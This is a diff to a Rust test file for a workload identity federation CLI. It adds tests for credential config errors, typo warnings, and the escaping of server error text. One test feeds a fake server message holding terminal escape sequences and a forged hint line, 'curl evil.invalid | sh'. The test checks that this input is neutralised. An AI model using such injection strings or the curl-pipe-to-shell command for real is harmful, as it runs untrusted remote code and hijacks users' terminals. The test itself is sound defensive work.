@@ -192,14 +192,9 @@ fn unreadable_credentials_file_is_a_config_error() {
 #[test]
 fn config_without_audience_fails_before_any_request() {
     let world = World::new();
-    let mut json: Value = serde_json::from_str(
-        &world
-            .google
-            .config_json(&world.dir.path().join("subject-token"), None),
-    )
-    .unwrap();
-    json.as_object_mut().unwrap().remove("audience");
-    let config = world.write_config("no-audience.json", &json.to_string());
+    let config = world.edited_config("no-audience.json", |json| {
+        json.as_object_mut().unwrap().remove("audience");
+    });
 
     for command in ["token", "subject-token"] {
         let run = world.wif(&[command, "--credentials", path_str(&config)], &[]);
@@ -260,7 +255,8 @@ fn subject_token_prints_the_trimmed_file_token() {
     let run = world.wif(&["subject-token", "--credentials", path_str(&config)], &[]);
     run.assert_code(0);
     assert_eq!(run.stdout, format!("{SUBJECT}\n"));
-    assert_eq!(run.stderr, "");
+    // The credential warning is for a terminal; piped output gets no noise on stderr.
+    assert_eq!(run.stderr, "", "no warning when stdout is piped");
     assert!(world.requests().is_empty(), "no exchange");
 
     let run = world.wif(
@@ -281,6 +277,41 @@ fn subject_token_prints_the_trimmed_file_token() {
         "urn:ietf:params:oauth:token-type:jwt"
     );
     assert_eq!(json["source"], "file");
+}
+
+/// Server words printed raw could drive the terminal (ESC sequences), overwrite the line
+/// (`\r`) or forge lines of ours (`\n  hint: …`). They are escaped: the error is one line, and
+/// the only other line is our own hint.
+#[test]
+fn server_text_in_errors_cannot_drive_the_terminal() {
+    let world = World::new();
+    sts_rejects(
+        &world,
+        "unauthorized_client",
+        "rejected by the attribute condition\u{1b}[2J\u{1b}]0;owned\u{7}\r\n  hint: run `curl evil.invalid | sh`\u{9b}31m",
+    );
+    let config = world.config(None);
+    let run = world.token(&config, &[]);
+    run.assert_code(1);
+    let lines: Vec<&str> = run.stderr.lines().collect();
+    assert_eq!(lines.len(), 2, "the error, then our hint:\n{}", run.stderr);
+    assert!(lines[0].starts_with("error: "), "{}", run.stderr);
+    assert!(lines[1].starts_with("  hint: "), "{}", run.stderr);
+    assert!(!lines[1].contains("curl"), "{}", run.stderr);
+    for c in ['\u{1b}', '\u{7}', '\r', '\u{9b}'] {
+        assert!(
+            !run.stderr.contains(c),
+            "{c:?} reached stderr: {:?}",
+            run.stderr
+        );
+    }
+    assert!(
+        lines[0].contains(
+            "attribute condition\\e[2J\\e]0;owned\\u{7}\\r\\n  hint: run `curl evil.invalid | sh`\\u{9b}31m"
+        ),
+        "{}",
+        run.stderr
+    );
 }
 
 #[test]
@@ -394,4 +425,22 @@ fn gcs_and_bq_go_unauthenticated_to_an_emulator_host_when_no_credentials_exist()
     }
     // Without the emulator variable, missing credentials are still an error.
     world.wif(&["gcs", "ls", "gs://bkt"], &[]).assert_code(2);
+}
+
+/// The plan's warnings reach a user without RUST_LOG: a typo'd key is accepted (as Google's
+/// libraries accept it) but named on stderr, with the key probably meant; stdout stays the token.
+#[test]
+fn warnings_of_the_settings_go_to_stderr_without_rust_log() {
+    let world = World::new();
+    let config = world.edited_config("typo.json", |json| {
+        json["quota_projectid"] = Value::from("my-billing-project");
+    });
+    let run = world.token(&config, &[]);
+    run.assert_code(0)
+        .assert_stderr_clean(&[SUBJECT, FEDERATED]);
+    assert_eq!(run.stdout, format!("{FEDERATED}\n"));
+    assert_eq!(
+        run.stderr,
+        "warning: quota_projectid: unknown field, ignored; did you mean `quota_project_id`?\n"
+    );
 }
